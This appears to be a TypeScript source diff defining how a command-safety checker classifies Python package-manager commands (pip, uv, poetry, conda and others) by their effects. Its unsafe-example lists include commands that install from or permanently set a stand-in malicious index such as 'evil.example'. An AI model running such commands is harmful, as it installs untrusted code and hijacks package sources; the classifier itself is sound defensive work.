@@ -1,0 +1,364 @@
+/** Package managers and environments of Python. */
+import type { Effect } from "../../effect.ts";
+import { each, fixed, given, line, network, runs, task, texts } from "./makers.ts";
+import { behind, fetchedAndRun, installs, publishes, removes, runsBehind, wholly } from "./packages-effects.ts";
+import type { CommandSpec, ProgramSpec } from "./spec.ts";
+
+const PYPI = "pypi.org";
+const PIP_FLAGS =
+  "-q --quiet -v --verbose -U --upgrade --user --no-deps --pre --force-reinstall --no-cache-dir --no-build-isolation --ignore-installed -I --dry-run --break-system-packages --no-input --disable-pip-version-check --no-color --isolated --require-virtualenv --no-index --no-warn-script-location --prefer-binary --system --no-compile --compile -y --yes --root-user-action --no-binary-all";
+const PIP_VALUES = {
+  ...texts(
+    "-i --index-url --extra-index-url -f --find-links --trusted-host --timeout --retries --proxy --cert --progress-bar --python --platform --only-binary --no-binary --upgrade-strategy --report --config-settings -C --index --default-index --extra --group",
+  ),
+  "-r": "read",
+  "--requirement": "read",
+  "-c": "read",
+  "--constraint": "read",
+  "-e": "readTree",
+  "--editable": "readTree",
+  "-t": "writeTree",
+  "--target": "writeTree",
+  "--root": "writeTree",
+  "--prefix": "writeTree",
+  "--src": "writeTree",
+} as const;
+
+/** Options that only choose what is printed. */
+const listing: CommandSpec = {
+  flags:
+    "-q --quiet -v --verbose --user --pre -e --editable --exclude-editable --not-required --local -l --no-color --disable-pip-version-check --isolated --no-input -f --files",
+  values: texts("--format --exclude --path --python"),
+  when: { "-o": [network(PYPI, false)], "--outdated": [network(PYPI, false)] },
+  operands: "text",
+};
+
+const pipCommands: Record<string, CommandSpec> = {
+  ...each("list show check inspect", { ...listing, flags: `${listing.flags} -o --outdated -u --uptodate` }),
+  freeze: { ...listing, always: [runs("helper", "git is asked about editable packages")] },
+  ...each("install wheel", { flags: PIP_FLAGS, values: PIP_VALUES, operands: "text", always: [installs(PYPI)] }),
+  ...each("sync compile", {
+    flags: PIP_FLAGS,
+    values: { ...PIP_VALUES, "-o": "write", "--output-file": "write" },
+    operands: "text",
+    always: [installs(PYPI)],
+  }),
+  download: {
+    flags: PIP_FLAGS,
+    values: { ...PIP_VALUES, "-d": "writeTree", "--dest": "writeTree" },
+    operands: "text",
+    always: [installs(PYPI)],
+  },
+  uninstall: { flags: PIP_FLAGS, values: PIP_VALUES, operands: "text", always: [removes] },
+  ...each("index search", { style: "words", operands: "text", always: [network(PYPI, false)] }),
+  config: {
+    commands: {
+      ...each("list get debug", listing),
+      ...each(
+        "set unset edit",
+        wholly((use) => [{ do: "persist", op: "change", detail: `package manager settings: ${line(use.operands)}` }]),
+      ),
+    },
+  },
+  cache: {
+    commands: {
+      ...each("dir info list", listing),
+      ...each("purge remove", wholly(fixed("package", "delete", "the package cache"))),
+    },
+  },
+  ...each("debug hash", wholly()),
+};
+
+const environment = fixed("package", "change", "a Python environment");
+
+export const packagesPython: readonly ProgramSpec[] = [
+  {
+    names: ["pip", "pip3"],
+    flags: `${PIP_FLAGS} --version -V --help -h`,
+    values: texts("--python --proxy --timeout --retries --cert --trusted-host --cache-dir --log"),
+    operands: { max: 0 },
+    commands: pipCommands,
+    examples: {
+      safe: ["pip --version", "pip list", "pip show requests", "pip list --format json", "pip check"],
+      unsafe: [
+        ["pip install requests", "package"],
+        ["pip install -q -e .", "package"],
+        ["pip install -r requirements.txt", "package"],
+        ["pip install --index-url https://evil.example x", "package"],
+        ["pip install --trusted-host evil.example x", "security"],
+        ["pip uninstall -y x", "package"],
+        ["pip download x", "package"],
+        ["pip list --outdated", "network"],
+        ["pip config set global.index-url https://evil.example", "persist"],
+        ["pip freeze", "run"],
+      ],
+    },
+  },
+  {
+    names: ["pipx", "uvx"],
+    launcher: true,
+    style: "posix",
+    flags: "--version --help -h",
+    values: texts("--from --with --python -p"),
+    commands: {
+      list: { flags: "--short --json", operands: { max: 0 } },
+      run: {
+        style: "words",
+        operands: "text",
+        read: (use) => ({
+          understood: true,
+          effects: fetchedAndRun(
+            use,
+            behind(use.operands, "--no-cache --system-site-packages", "--spec --python --with") ?? use.operands,
+            PYPI,
+          ),
+        }),
+      },
+      ...each("install inject upgrade upgrade-all reinstall reinstall-all install-all", {
+        flags: "--force -f --include-deps --editable -e",
+        values: texts("--python --spec --pip-args --index-url -i"),
+        operands: "text",
+        always: [installs(PYPI)],
+      }),
+      ...each("uninstall uninstall-all uninject", { operands: "text", always: [removes] }),
+      ...each("ensurepath", wholly(fixed("persist", "change", "the shell's start files"))),
+      "*": { style: "words", operands: "text", always: [(use) => fetchedAndRun(use, use.operands, PYPI)] },
+    },
+    read: () => ({ understood: true, effects: [] }),
+    examples: {
+      safe: [],
+      unsafe: [
+        ["pipx run cowsay", "package"],
+        ["pipx install black", "package"],
+        ["uvx ruff check", "run"],
+        ["uvx evil", "package"],
+      ],
+    },
+  },
+  {
+    names: ["uv"],
+    style: "posix",
+    flags: "--version -V --help -h -q --quiet -v --verbose --offline --no-cache -n --no-progress --no-config",
+    values: { ...texts("--color --cache-dir --config-file"), "--directory": "cwd", "--project": "cwd" },
+    operands: { max: 0 },
+    commands: {
+      run: {
+        style: "words",
+        operands: "text",
+        read: runsBehind(
+          "--no-sync --frozen --locked --isolated --no-project --all-extras --dev --no-dev -q --quiet -v --verbose --offline --active --exact --no-editable",
+          "--with --with-requirements --extra --group --python -p --env-file --directory --project --package",
+          "uv run",
+        ),
+      },
+      pip: { commands: pipCommands },
+      ...each("add sync lock", {
+        flags: `${PIP_FLAGS} --dev --all-extras --frozen --locked --no-sync --all-groups --check --no-dev --all-packages`,
+        values: {
+          ...texts(
+            "--extra --group --optional --python -p --index --default-index --index-url --branch --tag --rev --package",
+          ),
+          "-r": "read",
+          "--requirements": "read",
+        },
+        operands: "text",
+        always: [installs(PYPI)],
+      }),
+      remove: { flags: "--dev", values: texts("--group --optional"), operands: "text", always: [removes] },
+      tree: {
+        flags: "--frozen --outdated --invert --no-dedupe",
+        values: texts("--depth -d --package"),
+        operands: "text",
+        always: [task("resolves dependencies"), network(PYPI, false)],
+      },
+      tool: {
+        commands: {
+          list: { operands: { max: 0 } },
+          run: {
+            style: "words",
+            operands: "text",
+            read: (use) => ({
+              understood: true,
+              effects: fetchedAndRun(
+                use,
+                behind(use.operands, "--isolated --offline", "--from --with --python -p") ?? use.operands,
+                PYPI,
+              ),
+            }),
+          },
+          ...each("install upgrade", {
+            flags: PIP_FLAGS,
+            values: texts("--with --from --python -p --index-url"),
+            operands: "text",
+            always: [installs(PYPI)],
+          }),
+          uninstall: { operands: "text", always: [removes] },
+        },
+      },
+      python: {
+        commands: {
+          ...each("list find dir", { flags: "--only-installed --all-versions", operands: "text" }),
+          ...each(
+            "install uninstall pin",
+            wholly(fixed("package", "change", "the version of Python"), network("github.com", false)),
+          ),
+        },
+      },
+      ...each(
+        "venv init",
+        wholly(environment, (use) => [{ do: "write", target: use.cwd, recursive: true }]),
+      ),
+      ...each("build", wholly(task("build"))),
+      publish: wholly(publishes),
+      version: { flags: "--short", operands: { max: 0 } },
+      cache: {
+        commands: {
+          dir: { operands: { max: 0 } },
+          ...each("clean prune", wholly(fixed("package", "delete", "the package cache"))),
+        },
+      },
+      self: wholly(fixed("package", "change", "uv itself"), network("github.com", false)),
+      export: {
+        flags: PIP_FLAGS,
+        values: { ...texts("--format"), "-o": "write", "--output-file": "write" },
+        operands: { max: 0 },
+        always: [task("resolves dependencies")],
+      },
+    },
+    examples: {
+      safe: ["uv --version"],
+      unsafe: [
+        ["uv run pytest -x", "run"],
+        ["uv run --with evil python x.py", "run"],
+        ["uv pip install x", "package"],
+        ["uv add httpx", "package"],
+        ["uv sync", "package"],
+        ["uv publish", "publish"],
+        ["uv tool run ruff check", "run"],
+      ],
+    },
+  },
+  {
+    names: ["poetry", "pdm", "hatch", "rye", "pipenv"],
+    flags:
+      "--version -V --help -h -n --no-interaction -q --quiet -v -vv -vvv --verbose --no-ansi --ansi --no-plugins --no-cache",
+    values: { "-C": "cwd", "--directory": "cwd", "-P": "cwd", "--project": "cwd" },
+    operands: { max: 0 },
+    commands: {
+      run: {
+        style: "words",
+        operands: "text",
+        read: runsBehind("-n --no-interaction -q --quiet -v --verbose", "-C --directory", "poetry run"),
+      },
+      ...each("install update add lock sync", {
+        flags:
+          "-n --no-interaction -q --quiet -v --verbose --no-root --sync --dev -D --all-extras --no-dev --dry-run --lock --no-update --check --regenerate --editable --compile",
+        values: texts("--with --without --only -E --extras --group -G --source --python"),
+        operands: "text",
+        always: [installs(PYPI)],
+      }),
+      ...each("remove uninstall", {
+        flags: "-n --no-interaction --dev -D",
+        values: texts("--group -G"),
+        operands: "text",
+        always: [removes],
+      }),
+      ...each("show check about version", {
+        flags: "-n --no-interaction --tree -t --latest -l --outdated -o --all -a --top-level -T --no-dev -s --short",
+        values: texts("--with --without --only"),
+        operands: "text",
+        always: [runs("helper", "plugins of the project may be loaded")],
+      }),
+      search: wholly(network(PYPI, false)),
+      ...each("env venv", wholly(environment)),
+      ...each("shell", wholly(runs("unknown-program", "a shell in the environment"))),
+      ...each("build", wholly(task("build"))),
+      publish: wholly(publishes, task("build")),
+      ...each(
+        "config",
+        wholly((use) => [{ do: "persist", op: "change", detail: `package manager settings: ${line(use.operands)}` }]),
+      ),
+      ...each("init new export cache source self", wholly(environment)),
+      ...each("test fmt lint", wholly(task("test or format"))),
+    },
+    examples: {
+      safe: ["poetry --version"],
+      unsafe: [
+        ["poetry run pytest", "run"],
+        ["poetry update --no-interaction", "package"],
+        ["poetry add x", "package"],
+        ["poetry publish", "publish"],
+        ["poetry show", "run"],
+        ["pipenv run python -c 'import os'", "run"],
+      ],
+    },
+  },
+  {
+    names: ["conda", "mamba", "micromamba", "pixi"],
+    flags: "--version -V --help -h",
+    operands: { max: 0 },
+    commands: {
+      ...each("info list", {
+        flags: "--json -e --envs --explicit -a --all",
+        values: texts("-n --name -p --prefix"),
+        operands: "text",
+      }),
+      ...each("install create update upgrade add", {
+        flags: "-y --yes -q --quiet --force-reinstall",
+        values: { ...texts("-n --name -c --channel -p --prefix"), "-f": "read", "--file": "read" },
+        operands: "text",
+        always: [installs("conda.anaconda.org")],
+      }),
+      ...each("remove uninstall", {
+        flags: "-y --yes --all",
+        values: texts("-n --name"),
+        operands: "text",
+        always: [removes],
+      }),
+      run: {
+        style: "words",
+        operands: "text",
+        read: runsBehind("--no-capture-output --live-stream", "-n --name -p --prefix --cwd", "conda run"),
+      },
+      ...each("env activate deactivate config init clean shell", wholly(environment)),
+      search: wholly(network("conda.anaconda.org", false)),
+    },
+    examples: {
+      safe: ["conda --version", "conda info", "conda list -n base"],
+      unsafe: [
+        ["conda install numpy", "package"],
+        ["conda run -n x python a.py", "run"],
+        ["conda env remove -n x", "package"],
+      ],
+    },
+  },
+  {
+    names: ["twine", "flit"],
+    flags: "--version --help -h",
+    operands: { max: 0 },
+    commands: {
+      upload: wholly(publishes),
+      publish: wholly(publishes),
+      check: { operands: "read" },
+      ...each("build install register", wholly(task("build"))),
+    },
+    examples: { safe: ["twine check dist/x.whl"], unsafe: [["twine upload dist/*", "publish"]] },
+  },
+  {
+    names: ["virtualenv", "pyenv"],
+    flags: "--version --help -h",
+    operands: "text",
+    always: [
+      (use): readonly Effect[] => (use.operands.length === 0 && given(use, "--version --help -h") ? [] : [environment]),
+    ],
+    examples: {
+      safe: ["pyenv --version"],
+      unsafe: [
+        ["virtualenv .venv", "package"],
+        ["pyenv install 3.13", "package"],
+      ],
+    },
+  },
+];
+
+export const pipSpec: CommandSpec = { flags: PIP_FLAGS, operands: { max: 0 }, commands: pipCommands };
